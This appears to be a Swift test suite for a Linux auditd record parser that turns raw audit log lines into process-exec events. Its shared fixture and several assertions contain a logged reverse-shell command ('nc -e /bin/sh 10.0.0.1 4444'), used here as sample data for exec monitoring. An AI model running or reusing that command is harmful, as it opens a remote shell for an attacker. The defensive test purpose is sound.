import ExecEvents
import HostProcesses
import Testing

@testable import AuditRecords

/// One exec as Debian 12's kernel and auditd write it (ENRICHED), used by several tests.
let ncExec = """
    type=SYSCALL msg=audit(1795931722.174:120): arch=c000003e syscall=59 success=yes exit=0 a0=55d5 a1=55d6 a2=55d7 a3=8 items=2 ppid=4000 pid=4001 auid=1000 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=3 comm="nc" exe="/usr/bin/nc.openbsd" subj=unconfined key="execwatch"\u{1d}ARCH=x86_64 SYSCALL=execve AUID="alice" UID="bob" GID="bob" EUID="bob" SUID="bob" FSUID="bob" EGID="bob" SGID="bob" FSGID="bob"
    type=EXECVE msg=audit(1795931722.174:120): argc=5 a0="nc" a1="-e" a2="/bin/sh" a3="10.0.0.1" a4="4444"
    type=CWD msg=audit(1795931722.174:120): cwd="/home/bob"
    type=PATH msg=audit(1795931722.174:120): item=0 name="/usr/bin/nc" inode=1 dev=fe:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\u{1d}OUID="root" OGID="root"
    type=PATH msg=audit(1795931722.174:120): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=2 dev=fe:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\u{1d}OUID="root" OGID="root"
    type=PROCTITLE msg=audit(1795931722.174:120): proctitle=6E63002D65
    type=EOE msg=audit(1795931722.174:120):
    """

@Suite("Audit record parsing")
struct RecordParsingTests {
    @Test func enrichedLogLineBecomesTheEventDesignDescribes() throws {
        let result = replay(text: ncExec)
        #expect(result.statistics.records == 7)
        #expect(result.statistics.malformedRecords == 0)
        let event = try #require(result.events.first)
        #expect(result.events.count == 1)
        #expect(event.eventType == "LINUX_PROCESS_EXEC")
        #expect(event.eventTime == EventTime(seconds: 1_795_931_722, milliseconds: 174))
        #expect(event.procName == "nc")
        #expect(event.exePath == "/usr/bin/nc.openbsd")
        #expect(event.swParam == "-e /bin/sh 10.0.0.1 4444")
        #expect(event.user == "bob")  // the ENRICHED UID translation wins
        #expect(event.loginUser == "alice")
        #expect(event.uid == 1001)
        #expect(event.euid == 1001)
        #expect(event.auid == 1000)
        #expect(event.procId == 4001)
        #expect(event.parentProcId == 4000)
        #expect(event.cwd == "/home/bob")
        #expect(event.tty == "pts0")
        #expect(event.auditKey == "execwatch")
        #expect(event.args?.map(\.text) == ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])
        #expect(event.hostName == "test-host")
    }

    @Test func nodePrefixIsAcceptedAndKeepsNodesApart() {
        // The same serial on two nodes is two events.
        let text = """
            node=web-1 type=SYSCALL msg=audit(1700000000.001:7): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=10 uid=0 comm="true" exe="/usr/bin/true"
            node=web-2 type=SYSCALL msg=audit(1700000000.001:7): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=20 uid=0 comm="false" exe="/usr/bin/false"
            node=web-1 type=EXECVE msg=audit(1700000000.001:7): argc=1 a0="true"
            node=web-2 type=EXECVE msg=audit(1700000000.001:7): argc=1 a0="false"
            node=web-2 type=EOE msg=audit(1700000000.001:7):
            node=web-1 type=EOE msg=audit(1700000000.001:7):
            """
        let result = replay(text: text)
        #expect(result.events.map(\.procName) == ["false", "true"])
        #expect(result.nodes == ["web-2", "web-1"])
        #expect(result.events.map(\.procId) == [20, 10])
    }

    @Test func netlinkPayloadsParseLikeLogLines() throws {
        var assembler = AuditEventAssembler()
        var normalizer = ExecEventNormalizer(hostName: "h", users: UserNameCache(names: [0: "root"]))
        var events: [ExecEvent] = []
        let records: [(UInt16, String)] = [
            (
                1300,
                "audit(1795931722.174:2): arch=c000003e syscall=59 success=yes exit=0 a0=1 items=2 ppid=1 pid=77 auid=4294967295 uid=0 euid=0 tty=(none) comm=\"ls\" exe=\"/usr/bin/ls\" key=(null)"
            ),
            (1309, "audit(1795931722.174:2): argc=2 a0=\"ls\" a1=\"-l\""),
            (1307, "audit(1795931722.174:2): cwd=\"/\""),
            (1302, "audit(1795931722.174:2): item=0 name=\"/bin/ls\" inode=5"),
            (1320, "audit(1795931722.174:2): "),
        ]
        for (type, payload) in records {
            let reason = Array(payload.utf8).withUnsafeBytes { raw in
                assembler.ingest(type: type, payload: raw) { events.append(normalizer.event(from: $0)) }
            }
            #expect(reason == nil)
        }
        let event = try #require(events.first)
        #expect(events.count == 1)  // EOE completed it, no finish() needed
        #expect(event.procName == "ls")
        #expect(event.swParam == "-l")
        #expect(event.user == "root")
        #expect(event.auid == nil)  // 4294967295 is "unset"
        #expect(event.loginUser == nil)
        #expect(event.tty == nil)  // (none)
        #expect(event.auditKey == nil)  // (null)
    }

    @Test func hexEncodedFieldsAreDecoded() throws {
        let text = """
            type=SYSCALL msg=audit(1700000000.500:9): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=5 uid=0 comm=6D7920746F6F6C exe=2F6F70742F6D7920746F6F6C key=(null)
            type=EXECVE msg=audit(1700000000.500:9): argc=3 a0="my tool" a1=617267207769746820737061636573 a2=22717522
            type=CWD msg=audit(1700000000.500:9): cwd=2F746D702F612062
            type=PATH msg=audit(1700000000.500:9): item=0 name=2F6F70742F6D7920746F6F6C inode=1
            type=EOE msg=audit(1700000000.500:9):
            """
        let event = try #require(replay(text: text).events.first)
        #expect(event.procName == "my tool")
        #expect(event.exePath == "/opt/my tool")
        #expect(event.cwd == "/tmp/a b")
        #expect(event.args?.map(\.text) == ["my tool", "arg with spaces", "\"qu\""])
        #expect(event.swParam == "arg with spaces \"qu\"")
    }

    @Test func malformedLinesAreCountedWithLineNumbersAndLoseNothingElse() {
        let lines = ncExec.split(separator: "\n").map(String.init)
        // Garbage before, between and after the records of the event.
        let text =
            ([
                "this is not audit", lines[0], "type=SYSCALL msg=audit(17959x.1:2): nope", lines[1],
                "type=EXECVE", lines[2], lines[3], "node=x", lines[4], lines[5], lines[6],
                "type=PATH msg=audit(1.2:3",
            ]).joined(separator: "\n")
        let result = replay(text: text)
        #expect(result.events.count == 1)
        #expect(result.events.first?.swParam == "-e /bin/sh 10.0.0.1 4444")
        #expect(result.statistics.malformedRecords == 5)
        #expect(result.malformed.map(\.0) == [1, 3, 5, 8, 12])
        #expect(result.malformed.allSatisfy { !$0.1.isEmpty })
    }

    @Test(arguments: [
        "9999999999999999999.123:5",  // 19 digits of seconds: beyond Int64 (used to trap)
        "9223372036854775807.000:5",  // Int64.max seconds: beyond any time in milliseconds
        "253402300800.000:5",  // 10000-01-01T00:00:00Z
    ])
    func timestampsOutsideYears1970To9999AreCountedMalformedAndLoseNothingElse(stamp: String) {
        let lines = ncExec.split(separator: "\n").map(String.init)
        let text = ([lines[0], "type=SYSCALL msg=audit(\(stamp)): arch=c000003e syscall=59 success=yes"] + lines[1...])
            .joined(separator: "\n")
        let result = replay(text: text)
        #expect(result.events.count == 1)
        #expect(result.events.first?.swParam == "-e /bin/sh 10.0.0.1 4444")
        #expect(result.statistics.malformedRecords == 1)
        #expect(result.malformed.map(\.0) == [2])
        #expect(result.malformed.first?.1.contains("1970-01-01T00:00:00Z to 9999-12-31") == true)
    }

    @Test func theLastMillisecondOfYear9999IsAccepted() {
        let result = replay(text: ncExec.split(separator: "1795931722.174").joined(separator: "253402300799.999"))
        #expect(result.statistics.malformedRecords == 0)
        #expect(result.events.first?.eventTime.rfc3339 == "9999-12-31T23:59:59.999Z")
    }

    @Test func unknownNumberedTypesAndOtherRecordsAreSkippedQuietly() {
        let text = """
            type=UNKNOWN[1334] msg=audit(1700000000.000:1): prog-id=7 op=LOAD
            type=USER_LOGIN msg=audit(1700000000.000:2): pid=1 uid=0 msg='op=login id=0 exe="/usr/sbin/sshd" res=success'
            type=UNKNOWN[1309] msg=audit(1700000000.000:3): argc=1 a0="x"
            """
        let result = replay(text: text)
        #expect(result.statistics.malformedRecords == 0)
        #expect(result.statistics.records == 3)
        // An EXECVE without SYSCALL is not an event; it is counted as incomplete.
        #expect(result.events.isEmpty)
        #expect(result.statistics.incompleteEvents == 1)
    }

    @Test func timestampFractionsScaleToMilliseconds() throws {
        for (fraction, millis) in [("5", 500), ("05", 50), ("123", 123), ("123456", 123)] {
            let text = """
                type=SYSCALL msg=audit(1700000000.\(fraction):1): arch=c000003e syscall=59 success=yes exit=0 pid=1 uid=0 comm="a" exe="/a"
                type=EOE msg=audit(1700000000.\(fraction):1):
                """
            let event = try #require(replay(text: text).events.first)
            #expect(event.eventTime.millisecondsSinceEpoch == 1_700_000_000_000 + Int64(millis))
        }
    }

    /// The header's numbers, eight digits read at once where they lead: against a digit-by-digit
    /// reading, for every run of digits up to 25 long, cut anywhere, with any byte in place of
    /// any of its first nine.
    @Test func headerNumbersReadAsDigitByDigit() {
        func naive(_ bytes: [UInt8], _ end: Int) -> (UInt64, Int)? {
            var value: UInt64 = 0
            var i = 0
            while i < min(end, 19), bytes[i] >= 0x30, bytes[i] <= 0x39 {
                value = value * 10 + UInt64(bytes[i] - 0x30)
                i += 1
            }
            return i > 0 ? (value, i) : nil
        }
        var generator = SystemRandomNumberGenerator()
        let others: [UInt8] = [0x2F, 0x3A, 0x2E, 0x29, 0x00, 0xFF, 0x36 + 0x80, 0x20, 0x41]
        for length in 0...25 {
            for _ in 0..<20 {
                let digits = (0..<length).map { _ in UInt8.random(in: 0x30...0x39, using: &generator) }
                var cases = [digits + [0x3A]]
                for position in 0..<min(length, 9) {
                    for other in others {
                        var damaged = digits + [0x29]
                        damaged[position] = other
                        cases.append(damaged)
                    }
                }
                for bytes in cases {
                    for end in [bytes.count, max(0, bytes.count - 2), min(bytes.count, 8), min(bytes.count, 7)] {
                        let found = bytes.withUnsafeBytes { raw -> (UInt64, Int)? in
                            var i = 0
                            var j = 0
                            let plain = readDecimalDigits(raw.baseAddress!, &j, end)
                            guard let number = readDecimalDigits(raw.baseAddress!, &i, end, eightAtOnce: true) else {
                                #expect(plain == nil)
                                return nil
                            }
                            #expect(i == number.digits && j == i && plain?.value == number.value)
                            return (number.value, number.digits)
                        }
                        let expected = naive(bytes, end)
                        #expect(found?.0 == expected?.0 && found?.1 == expected?.1, "\(bytes) end \(end)")
                    }
                }
            }
        }
    }
}
